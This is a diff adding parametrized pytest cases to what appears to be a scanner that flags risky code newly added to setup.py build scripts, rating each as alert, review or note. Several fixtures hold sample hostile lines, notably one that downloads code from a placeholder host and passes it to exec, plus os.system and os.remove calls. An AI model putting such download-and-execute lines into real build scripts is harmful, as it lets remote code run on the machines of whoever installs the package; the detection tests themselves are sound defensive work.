@@ -76,3 +76,63 @@ def test_what_can_be_told_is_silent(new: str) -> None:
 def test_an_added_script_has_no_argument_of_before() -> None:
     script = {"setup.py": SCRIPT.format("NEEDS = f()").encode()}
     assert not [one for one in lines({}, script) if "only running" in one]
+
+
+SCRIPTS = {
+    "what is downloaded and executed": (
+        "from urllib.request import urlopen\n"
+        "exec(urlopen('http://a.org').read())\n",
+        [
+            "alert setup.py:5 builtins.exec executes what was downloaded",
+        ],
+    ),
+    "what is downloaded first": (
+        "from urllib.request import urlopen\n"
+        "text = urlopen('http://a.org').read()\nexec(text)\n",
+        [
+            "alert setup.py:6 builtins.exec executes what was downloaded",
+            "alert setup.py:5 calls urllib.request.urlopen",
+        ],
+    ),
+    "a function that is passed on": (
+        "import os\nlist(map(os.system, ['x']))\n",
+        ["review setup.py:5 uses os.system"],
+    ),
+    "a program": (
+        "import subprocess\nsubprocess.run(['make'])\n",
+        ["review setup.py:5 calls subprocess.run"],
+    ),
+    "a command of its own": (
+        "setup(cmdclass={'install': Install})\n",
+        ["review setup.py:4 newly has cmdclass"],
+    ),
+    "another call": ("prepare()\n", ["note setup.py:4 newly calls prepare"]),
+    "a function of a module": (
+        "import os\nos.remove('x')\n",
+        ["note setup.py:5 newly calls remove"],
+    ),
+    "a method of a path": (
+        "from pathlib import Path\nPath('x').write_text('')\n",
+        ["note setup.py:5 newly calls write_text"],
+    ),
+    "methods of texts and of what is found in them": (
+        "import re\nm = re.match('(.)', 'x').groups()\n"
+        "for a in open('v'):\n    m = m + a.casefold().splitlines()\n",
+        [],
+    ),
+    "values": ("v = open('v').read().strip()\nx = {'a': [1, 2]}\n", []),
+}
+
+
+@pytest.mark.parametrize(("new", "expected"), SCRIPTS.values(), ids=SCRIPTS)
+def test_setup_scripts(new: str, expected: list[str]) -> None:
+    old = "from setuptools import setup\n\nsetup(name='p')\n"
+    result = lines(
+        {"setup.py": old.encode()},
+        {"setup.py": (old + new).encode()},
+    )
+    assert result == [
+        line.replace(" ", " runs-at-build ", 1) for line in expected
+    ]
+    both = {"setup.py": (old + new).encode()}
+    assert lines(both, both | {"README": b""}) == []
